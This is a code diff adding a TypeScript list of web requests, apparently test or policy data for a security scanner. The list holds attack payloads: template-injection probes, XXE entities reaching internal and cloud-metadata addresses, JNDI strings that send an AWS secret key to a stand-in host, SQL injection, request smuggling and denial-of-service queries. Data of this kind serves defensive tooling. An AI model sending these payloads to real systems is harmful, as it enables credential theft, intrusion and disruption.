@@ -866,3 +866,76 @@ export const COSTLY_VALUES: readonly string[] = [
   "http://www.acme.test/admin/reboot",
   "http://www.acme.test:8080/actuator/shutdown",
 ];
+
+const FORM_TYPE = { "Content-Type": "application/x-www-form-urlencoded" };
+const JSON_TYPE = { "Content-Type": "application/json" };
+const XML_TYPE = { "Content-Type": "text/xml" };
+const entity = (address: string): DisguisedRequest => [
+  "POST",
+  "/api/search",
+  `<!DOCTYPE a [<!ENTITY x SYSTEM "${address}">]><a>&x;</a>`,
+  XML_TYPE,
+];
+
+/** Orders that a proof beside them, or a name that reads, would excuse. */
+export const EXCUSED_ORDERS: readonly DisguisedRequest[] = [
+  // Something of the product's own is done; a calculation stands beside it.
+  ["GET", "/confirm?id=5&q={{7*7}}"],
+  ["GET", "/order/5/submit?q={{7*7}}"],
+  ["GET", "/vm/5/resume?q={{7*7}}"],
+  ["GET", "/service/start?id=1&q={{7*7}}"],
+  ["GET", "/account/5/lock?q={{7*7}}"],
+  ["GET", "/project/switch/1?q={{7*7}}"],
+  ["GET", "/users/5/follow?q={{7*7}}"],
+  ["GET", "/invitation?response=accept&q={{7*7}}"],
+  ["GET", "/db/recovery?q={{7*7}}"],
+  ["GET", "/config/reload?q={{7*7}}"],
+  ["GET", "/jobs/5/retry?q={{7*7}}"],
+  ["GET", "/transaction/commit?q={{7*7}}"],
+  ["GET", "/backup?q={{7*7}}"],
+  ["GET", "/ack?id={{7*7}}"],
+  ["GET", "/?empty-cart&q={{7*7}}"],
+  ["GET", "/a?relay=1&q={{7*7}}"],
+  ["GET", "/a?power=off&q={{7*7}}"],
+  ["GET", "/a?main_valve=open&q={{7*7}}"],
+  ["GET", "/a?mode=off&q={{7*7}}"],
+  ["GET", "/a?q={{7*7}}", "", { Cookie: "relay1=on" }],
+  ["GET", "/solr/x/replication?command=fetchindex&masterUrl=http://p1.calls.example.net"],
+  // A resource of an interface that is kept, whatever is in it.
+  ["POST", "/actuator/env", '{"name":"x","value":"{{7*7}}"}', JSON_TYPE],
+  ["POST", "/actuator/gateway/routes/x", '{"uri":"http://p1.calls.example.net"}', JSON_TYPE],
+  ["POST", "/_cluster/settings", '{"persistent":{"x":"{{7*7}}"}}', JSON_TYPE],
+  ["POST", "/api/v1/namespaces/a/pods", '{"kind":"Pod","x":"{{7*7}}"}', JSON_TYPE],
+  ["POST", "/api/users", '{"name":"{{7*7}}"}', JSON_TYPE],
+  ["POST", "/v1/jobs", '{"name":"a","command":"id;id"}', JSON_TYPE],
+  ["POST", "/api/v2/settings/", '{"a":"{{7*7}}"}', JSON_TYPE],
+  ["POST", "/rest/webhooks", '{"url":"http://p1.calls.example.net/"}', JSON_TYPE],
+  // A name that reads, to which something is sent.
+  ["POST", "/api/user/info", '{"role":"admin"}', JSON_TYPE],
+  ["POST", "/api/user/status", '{"active":false}', JSON_TYPE],
+  ["POST", "/api/users/1/status", "status=2", FORM_TYPE],
+  ["POST", "/profile/details", '{"address":"x"}', JSON_TYPE],
+  ["POST", "/account/info", '{"iban":"x"}', JSON_TYPE],
+  ["POST", "/api/check", '{"in":true}', JSON_TYPE],
+  ["POST", "/mail/read", "id=1", FORM_TYPE],
+  ["POST", "/notifications/readAll", "x=1", FORM_TYPE],
+  ["POST", "/api/viewAsRead", "a=1", FORM_TYPE],
+  ["POST", "/api/selectPlan", "x=1", FORM_TYPE],
+  // The inside of the host, by an entity.
+  entity("http://127.0.0.1:2375/containers/prune"),
+  entity("http://127.0.0.1/admin/delete"),
+  entity("http://localhost:8080/manager/stop"),
+  entity("http://169.254.169.254/latest/api/token"),
+  entity("jar:http://p1.calls.example.net/a!/b"),
+  // A request in a body, and what leaves for someone else.
+  ["POST", "/search", "q={{7*7}}\r\n\r\nDELETE /a HTTP/1.1\r\nHost: a\r\n\r\n", FORM_TYPE],
+  ["POST", "/search", "GET /admin HTTP/1.1\r\nX: {{7*7}}", { "Content-Type": "text/plain" }],
+  ["GET", "/a?id=1 union select load_file('\\\\\\\\evil.example.co\\\\a')"],
+  ["GET", "/a?file=\\\\evil.example.co\\share\\x.txt"],
+  ["GET", "/a", "", { "X-Api-Version": "${jndi:ldap://p1.calls.example.net/${env:AWS_SECRET_ACCESS_KEY}}" }],
+  ["GET", "/a?x=${jndi:dns://${sys:user.home}.p1.calls.example.net}"],
+  // Work without need.
+  ["GET", "/a?id=1 union select rpad('a',999999999,'b')"],
+  ["GET", "/a?id=1 union select repeat('a',50000*50000)"],
+  ["GET", "/a?cmd=ls /*/*/*/*/*/*"],
+];
